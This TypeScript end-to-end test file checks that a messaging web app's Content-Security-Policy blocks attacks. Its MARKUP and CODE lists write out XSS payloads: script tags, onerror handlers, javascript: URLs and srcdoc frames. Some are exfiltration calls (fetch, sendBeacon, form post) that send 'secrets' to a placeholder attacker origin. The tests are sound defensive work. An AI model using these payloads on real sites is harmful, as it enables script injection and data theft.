import { SEEDED_MESSAGE_GROUP_UUID } from '@cruddur/config/seed';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startForeignOrigin } from '../../support/foreign-origin.ts';
import { connectBrowser } from '../support/browser.ts';
import {
  closeAccountMenu,
  conversation,
  message,
  signIn,
  signUp,
  type Visitor,
  visit,
  write,
} from '../support/people.ts';
import { sharedStack } from '../support/shared-stack.ts';
import { pressEscape } from '../support/thread.ts';

const THREAD = `/messages/${SEEDED_MESSAGE_GROUP_UUID}`;

const browser = await connectBrowser();
const { webUrl } = await sharedStack();
const elsewhere = await startForeignOrigin(`<iframe src="${webUrl}/signin"></iframe>`);
afterAll(() => elsewhere.stop());

describe('under its Content-Security-Policy, the page', () => {
  it('works without a violation', async () => {
    const andrew = await visit(browser);
    const { page, violations } = andrew;
    for (const path of ['/signup', '/confirm', '/recover', '/nowhere']) {
      await page.goto(path);
      await page.getByRole('heading', { level: 1 }).first().waitFor();
    }
    await page.goto(THREAD);
    await signIn(andrew, 'andrewbrown');
    await page.getByRole('navigation', { name: 'Conversations' }).getByRole('link').first().waitFor();
    await page.mouse.wheel(0, -4000);
    await openEachOverlay(andrew);
    expect(violations).toEqual([]);
    await andrew.context.close();
  });

  it('works without a violation for two people who sign up and write to each other', async () => {
    const [ida, olaf] = [await visit(browser), await visit(browser)];
    const password = 'Harbour-Lights-7!';
    await Promise.all([
      signUp(ida, { handle: 'ida', displayName: 'Ida Weir', password }),
      signUp(olaf, { handle: 'olaf', displayName: 'Olaf Brandt', password }),
    ]);
    await ida.page.goto('/messages/new/olaf');
    await write(ida, 'Hello!');
    await conversation(olaf, 'Ida Weir').click();
    await message(olaf, 'Hello!').waitFor();
    await write(olaf, 'See https://example.com/harbour, at “seven”');
    await message(ida, 'https://example.com/harbour').waitFor();
    expect([ida.violations, olaf.violations]).toEqual([[], []]);
    await Promise.all([ida.context.close(), olaf.context.close()]);
  });
});

/** Opens the account menu with the theme, the person picker and the list of shortcuts. */
async function openEachOverlay(person: Visitor): Promise<void> {
  const { page } = person;
  await page.getByRole('button', { name: 'Account' }).click();
  await page.getByRole('menu').waitFor();
  await closeAccountMenu(person);
  await page.getByRole('button', { name: 'New message' }).first().click();
  await page.getByRole('combobox', { name: 'Name or handle' }).fill('lon');
  await page.getByRole('option', { name: /Londo Mollari/ }).waitFor();
  await pressEscape(page.getByRole('dialog'));
  await page.keyboard.press('?');
  await pressEscape(page.getByRole('dialog'));
}

/** What an attacker might inject into the document, and the directive that blocks it. Each would set `window.ran`. */
const MARKUP: [string, string, string][] = [
  ['a script', '<script>window.ran = true</script>', 'script-src-elem'],
  ['a script of another site', '<script src="ELSEWHERE/x.js"></script>', 'script-src-elem'],
  ['a script in a data URL', '<script src="data:text/javascript,window.ran=true"></script>', 'script-src-elem'],
  ['an event handler', '<img src="/none.png" onerror="window.ran = true">', 'script-src-attr'],
  ['a javascript: frame', '<iframe src="javascript:parent.ran=true"></iframe>', 'script-src-elem'],
  ['a frame with its own markup', '<iframe srcdoc="<script>parent.ran=true</script>"></iframe>', 'script-src-elem'],
  ['a plug-in', '<object data="ELSEWHERE/x.swf"></object>', 'object-src'],
  ['a base for every address', '<base href="ELSEWHERE/">', 'base-uri'],
  [
    'a style that loads from another site',
    '<style>body { background: url(ELSEWHERE/x.png) }</style>',
    'style-src-elem',
  ],
  ['an image of another site', '<img src="ELSEWHERE/x.png">', 'img-src'],
];

/** What code that already runs might try, and the directive that blocks it. */
const CODE: [string, string, string][] = [
  [
    'add a script',
    's = document.createElement("script"); s.text = "window.ran = true"; document.body.append(s)',
    'require-trusted-types-for',
  ],
  ['write markup', 'document.body.innerHTML = "<img src=x onerror=window.ran=true>"', 'require-trusted-types-for'],
  ['run text as code', 'window.setTimeout("window.ran = true")', 'require-trusted-types-for'],
  [
    'follow a javascript: link',
    'a = document.createElement("a"); a.href = "javascript:window.ran=true"; document.body.append(a); a.click()',
    'script-src-elem',
  ],
  [
    'send data to another site',
    'fetch("ELSEWHERE/stolen", { method: "POST", body: "secrets" }).catch(() => {})',
    'connect-src',
  ],
  ['send a beacon to another site', 'navigator.sendBeacon("ELSEWHERE/stolen", "secrets")', 'connect-src'],
  [
    'post a form to another site',
    'f = document.createElement("form"); f.action = "ELSEWHERE/stolen"; f.method = "post"; document.body.append(f); f.submit()',
    'form-action',
  ],
  [
    'make a Trusted Types policy of its own',
    'try { window.trustedTypes.createPolicy("attack", { createHTML: (text) => text }) } catch {}',
    'trusted-types',
  ],
  ['start a worker', 'try { new Worker("data:text/javascript,fetch(1)") } catch {}', 'require-trusted-types-for'],
];

describe('under its Content-Security-Policy, an attacker', () => {
  let visitor: Visitor;
  let attacked: Visitor;

  beforeAll(async () => {
    [visitor, attacked] = [await visit(browser), await visit(browser)];
    await attacked.page.goto('/signin');
    await attacked.page.getByRole('heading', { level: 1 }).waitFor();
  });

  /** Waits for a violation of a directive, caused by a script if one is named. */
  async function expectBlocked({ page, violations }: Visitor, directive: string, source?: string): Promise<void> {
    const own = () => violations.filter((violation) => source === undefined || violation.source === source);
    await expect.poll(() => own().map((violation) => violation.directive)).toContain(directive);
    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
    expect(elsewhere.requests).toEqual([]);
  }

  it.each(MARKUP)('who injects %s into the document achieves nothing', async (_name, markup, directive) => {
    const { page } = visitor;
    const target = '**/signin';
    await page.route(target, async (route) => {
      const response = await route.fetch();
      // Without the page's script: the attack is on the document.
      const document = (await response.text()).replace(
        /<script type="module".*?<\/script>|<link rel="modulepreload".*?>/g,
        '',
      );
      const body = document.replace('<body>', `<body>${markup.replace('ELSEWHERE', elsewhere.url)}`);
      await route.fulfill({ response, body });
    });
    visitor.violations.length = 0;
    await page.goto('/signin');
    await page.unroute(target);
    await expectBlocked(visitor, directive);
  });

  it.each(CODE)('whose code would %s cannot', async (name, code, directive) => {
    // All attacks use one page: each is blocked, so none navigates away. Each is a script with its own address, because
    // the page may report the violation of one while the next one runs.
    const { page } = attacked;
    // Only scripts from the page's own origin may run.
    const url = new URL(`/attack-${name.replace(/\W+/g, '-')}.js`, webUrl).href;
    await page.route(url, (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: `{ let a, f, s; ${code.replace('ELSEWHERE', elsewhere.url)} }`,
      }),
    );
    // As text, since Vitest would replace the import. What is blocked may throw.
    await page.evaluate(`import(${JSON.stringify(url)}).catch(() => {})`);
    await expectBlocked(attacked, directive, url);
    expect(new URL(page.url()).pathname).toBe('/signin');
    await page.unroute(url);
  });
});

describe('another site', () => {
  it('cannot show the page in a frame', async () => {
    const page = await browser.newPage();
    await page.goto(elsewhere.url);
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
    await page.close();
  });

  it('does not learn which page a visitor comes from', async () => {
    const { page, context } = await visit(browser);
    const referrers: (string | undefined)[] = [];
    page.on('request', async (request) => void referrers.push(request.headers().referer));
    await page.goto(THREAD);
    await page.getByRole('heading', { level: 1 }).waitFor();
    elsewhere.requests.length = 0;
    await page.evaluate((url) => window.location.assign(url), elsewhere.url);
    await page.waitForURL(`${elsewhere.url}/`);
    expect(elsewhere.requests[0]?.headers.referer).toBeUndefined();
    expect(referrers.length).toBeGreaterThan(5);
    expect(referrers.filter((referrer) => referrer?.startsWith(webUrl))).toEqual([]);
    await context.close();
  });
});
